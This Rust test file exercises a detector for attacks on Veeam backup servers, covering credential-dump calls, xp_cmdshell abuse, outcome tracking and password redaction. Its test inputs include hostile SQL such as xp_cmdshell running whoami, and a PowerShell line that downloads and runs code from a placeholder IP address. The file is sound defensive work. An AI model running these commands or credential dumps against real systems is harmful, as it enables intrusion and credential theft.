//! Made-up calls: what counts as one, outcomes, waiting for replies, updates.

use backstop_protocols::veeam::{Call, Reply, ReplyKind, Spec};

use crate::testing::{Flow, call, credentials, empty, fault, number, object, spec_call, sql_call, text, value};
use crate::{DetectConfig, Outcome};

const GET_ALL: &str = "CredentialsDbScopeGetAllCreds";
const FIND: &str = "CredentialsDbScopeFindCredentials";

fn exploits(call: &Call, reply: &Reply) -> Vec<(u64, usize)> {
    let mut flow = Flow::default();
    flow.exchange(call, reply);
    flow.end();
    flow.exploits()
}

#[test]
fn each_attack_is_told_and_its_look_alike_is_not() {
    let dump = [(9_401_001, 1), (9_401_003, 1)];
    let lookup = [(9_401_002, 1), (9_401_003, 1)];
    assert_eq!(exploits(&call(GET_ALL), &credentials(6)), dump);
    assert_eq!(exploits(&spec_call(GET_ALL, &[]), &credentials(6)), dump);
    assert_eq!(exploits(&call(" credentialsdbscopegetallcreds "), &credentials(6)), dump);
    assert_eq!(exploits(&spec_call(FIND, &[("credsId", "1")]), &credentials(1)), lookup);
    // The name as the value of another argument, as a scope, within a longer name.
    assert_eq!(exploits(&spec_call("LogWrite", &[("text", GET_ALL)]), &value()), []);
    assert_eq!(exploits(&Call { scope: Some(GET_ALL.to_owned()), ..call("GetVersion") }, &value()), []);
    assert_eq!(exploits(&call("CredentialsDbScopeGetAllCredsCount"), &value()), []);
    assert_eq!(exploits(&call("log CredentialsDbScopeFindCredentials failed"), &value()), []);
    // Credentials in a reply to something else.
    assert_eq!(exploits(&call("GetJobs"), &credentials(3)), []);
    assert_eq!(exploits(&sql_call("SELECT 1"), &value()), [(9_401_004, 1)]);
    assert_eq!(exploits(&sql_call("EXEC xp_cmdshell 'whoami'"), &value()), [(9_401_004, 1), (9_401_005, 1)]);
    assert_eq!(exploits(&sql_call("SELECT 'EXEC xp_cmdshell ''whoami'''"), &value()), [(9_401_004, 1)]);
    assert_eq!(exploits(&sql_call("-- EXEC xp_cmdshell 'whoami'\nSELECT 1"), &value()), [(9_401_004, 1)]);
    assert_eq!(exploits(&sql_call("EXEC sp_configure 'xp_cmdshell', 0"), &value()), [(9_401_004, 1)]);
    // SQL as the value of a parameter is no SQL that runs.
    assert_eq!(exploits(&spec_call("LogWrite", &[("text", "EXEC xp_cmdshell 'whoami'")]), &value()), []);
    assert_eq!(exploits(&call("GetDataTable"), &value()), []);
}

#[test]
fn what_the_commands_of_sql_run_is_told_with_the_outcome_of_the_call() {
    let run = "EXEC xp_cmdshell 'powershell -c \"iex (irm http://203.0.113.7/a)\"'";
    for (reply, outcome) in [(value(), Outcome::Success), (fault(), Outcome::Attempt)] {
        let mut flow = Flow::default();
        flow.exchange(&sql_call(run), &reply);
        assert_eq!(flow.outcomes(9_403_003), [outcome]);
        let powershell = object(&flow.alerts(9_403_003)[0].context, "powershell");
        assert_eq!(text(&powershell, "script"), "iex (irm http://203.0.113.7/a)");
    }
    let mut flow = Flow::default();
    flow.exchange(&sql_call(&format!("SELECT '{}'", run.replace('\'', "''"))), &value());
    flow.end();
    assert!(flow.alerts(9_403_003).is_empty());
}

#[test]
fn sql_counts_by_its_spec_even_where_its_text_is_lost() {
    let spec = Spec { kind: "DbGetDataTableRemoteInvokeSpec".to_owned(), ..Spec::default() };
    let lost = Call { spec: Some(spec), truncated: true, ..call("Other") };
    assert_eq!(exploits(&lost, &value()), [(9_401_004, 1)]);
}

#[test]
fn attempt_and_success_are_told_apart() {
    for (reply, outcome) in [
        (credentials(6), Outcome::Success),
        (value(), Outcome::Success),
        (fault(), Outcome::Attempt),
        (empty(), Outcome::Attempt),
        // A list that was read to its end and holds nothing.
        (credentials(0), Outcome::Attempt),
    ] {
        let mut flow = Flow::default();
        flow.exchange(&call(GET_ALL), &reply);
        assert_eq!(flow.outcomes(9_401_001), [outcome], "{reply:?}");
        assert_eq!(flow.alerts(9_401_003).len(), usize::from(outcome == Outcome::Success), "{reply:?}");
        flow.exchange(&sql_call("SELECT 1"), &reply);
        let expected = if reply.kind == ReplyKind::Value { Outcome::Success } else { Outcome::Attempt };
        assert_eq!(flow.outcomes(9_401_004), [expected]);
    }
}

#[test]
fn data_of_an_unknown_kind_counts_as_credentials_without_a_number() {
    let unknown = Reply { class: Some("Lab.Other".to_owned()), credential_count: Some(0), ..value() };
    assert_eq!(exploits(&call(GET_ALL), &unknown), [(9_401_001, 1), (9_401_003, 1)]);
    let mut flow = Flow::default();
    flow.exchange(&call(GET_ALL), &value());
    assert_eq!(number(&object(&flow.alerts(9_401_003)[0].context, "veeam"), "credential_count"), None);
}

#[test]
fn a_finding_waits_for_its_reply_and_no_longer_than_it_may() {
    let mut flow = Flow::default();
    let tx_id = flow.ask(&call(GET_ALL));
    assert!(flow.wants_tick() && flow.out.is_empty());
    flow.wait(750);
    assert!(flow.wants_tick() && flow.out.is_empty());
    flow.wait(50);
    assert!(!flow.wants_tick());
    assert_eq!(flow.outcomes(9_401_001), [Outcome::Unknown]);
    // The reply comes all the same.
    flow.answer(tx_id, &call(GET_ALL), &credentials(6));
    let updates = flow.updates(9_401_001);
    assert_eq!((updates.len(), updates[0].outcome), (1, Outcome::Success));
    let veeam = object(&updates[0].context, "veeam");
    assert_eq!((number(&veeam, "credential_count"), number(&veeam, "count")), (Some(6), Some(1)));
    assert_eq!(updates[0].context.iter().count(), 1, "the record of an update shows one protocol");
    assert_eq!(flow.alerts(9_401_003).len(), 1);
    flow.end();
    assert_eq!((flow.alerts(9_401_001).len(), flow.updates(9_401_001).len()), (1, 1));
}

#[test]
fn an_empty_hold_says_it_at_the_next_tick() {
    let config = DetectConfig { hold: std::time::Duration::ZERO, ..DetectConfig::default() };
    let mut flow = Flow::new(config);
    flow.ask(&call(GET_ALL));
    flow.wait(0);
    assert_eq!(flow.outcomes(9_401_001), [Outcome::Unknown]);
}

#[test]
fn what_is_held_is_said_when_no_reply_can_come() {
    let mut flow = Flow::default();
    let tx_id = flow.ask(&sql_call("EXEC xp_cmdshell 'dir'"));
    flow.give_up(tx_id, &sql_call("EXEC xp_cmdshell 'dir'"));
    assert_eq!(flow.outcomes(9_401_005), [Outcome::Unknown]);
    let mut flow = Flow::default();
    flow.ask(&call(FIND));
    flow.end();
    assert_eq!(flow.outcomes(9_401_002), [Outcome::Unknown]);
    assert!(!flow.wants_tick());
}

#[test]
fn a_later_success_brings_an_attempt_up_to_date_once() {
    let mut flow = Flow::default();
    flow.exchange(&call(GET_ALL), &fault());
    assert_eq!(flow.outcomes(9_401_001), [Outcome::Attempt]);
    flow.exchange(&call(GET_ALL), &fault());
    assert!(flow.updates(9_401_001).is_empty());
    flow.exchange(&call(GET_ALL), &credentials(2));
    flow.exchange(&call(GET_ALL), &credentials(2));
    let updates = flow.updates(9_401_001);
    assert_eq!((updates.len(), updates[0].outcome), (1, Outcome::Success));
    flow.end();
    let last = flow.updates(9_401_001)[1];
    assert_eq!(number(&object(&last.context, "veeam"), "count"), Some(4));
    assert_eq!(last.outcome, Outcome::Success);
}

#[test]
fn a_call_for_both_methods_is_both() {
    let both = Call { method: Some(GET_ALL.to_owned()), ..spec_call(FIND, &[]) };
    assert_eq!(exploits(&both, &credentials(1)), [(9_401_001, 1), (9_401_002, 1), (9_401_003, 1)]);
    let mut flow = Flow::default();
    flow.exchange(&both, &credentials(1));
    let veeam = object(&flow.alerts(9_401_001)[0].context, "veeam");
    assert_eq!((text(&veeam, "method"), text(&veeam, "spec_method")), (GET_ALL.to_owned(), FIND.to_owned()));
}

#[test]
fn each_distinct_text_and_each_run_of_a_command_is_a_cause_and_the_rest_is_counted() {
    let mut flow = Flow::default();
    for sql in ["SELECT 1", "SELECT 2", "SELECT 1", "EXEC xp_cmdshell 'a'", "EXEC xp_cmdshell 'b'", "EXEC xp_cmdshell 'a'"] {
        flow.exchange(&sql_call(sql), &value());
    }
    flow.end();
    assert_eq!(flow.exploits(), [(9_401_004, 5), (9_401_005, 3)]);
    let last = object(&flow.updates(9_401_004)[0].context, "veeam");
    assert_eq!((number(&last, "count"), number(&last, "count_untold")), (Some(6), Some(1)));
}

#[test]
fn the_totals_of_what_was_returned_follow_at_the_end() {
    let mut flow = Flow::default();
    flow.exchange(&call(GET_ALL), &credentials(6));
    flow.exchange(&call(GET_ALL), &credentials(6));
    flow.exchange(&call(GET_ALL), &value());
    flow.exchange(&spec_call(FIND, &[("id", "1")]), &credentials(1));
    flow.end();
    assert_eq!(flow.alerts(9_401_003).len(), 2);
    let updates = flow.updates(9_401_003);
    assert_eq!(updates.len(), 1);
    let veeam = object(&updates[0].context, "veeam");
    assert_eq!(
        (number(&veeam, "count"), number(&veeam, "credential_count"), number(&veeam, "replies_uncounted")),
        (Some(3), Some(12), Some(1))
    );
}

#[test]
fn evidence_shows_no_passwords() {
    let mut flow = Flow::default();
    flow.exchange(&sql_call("CREATE LOGIN a WITH PASSWORD = 'hunter2'; EXEC xp_cmdshell 'app --password=hunter2 x'"), &value());
    assert_eq!(flow.exploits(), [(9_401_004, 1), (9_401_005, 1)]);
    for finding in &flow.out.findings {
        assert!(!format!("{:?}", finding.context).contains("hunter2"));
        assert!(!String::from_utf8_lossy(&finding.excerpt).contains("hunter2"));
    }
}
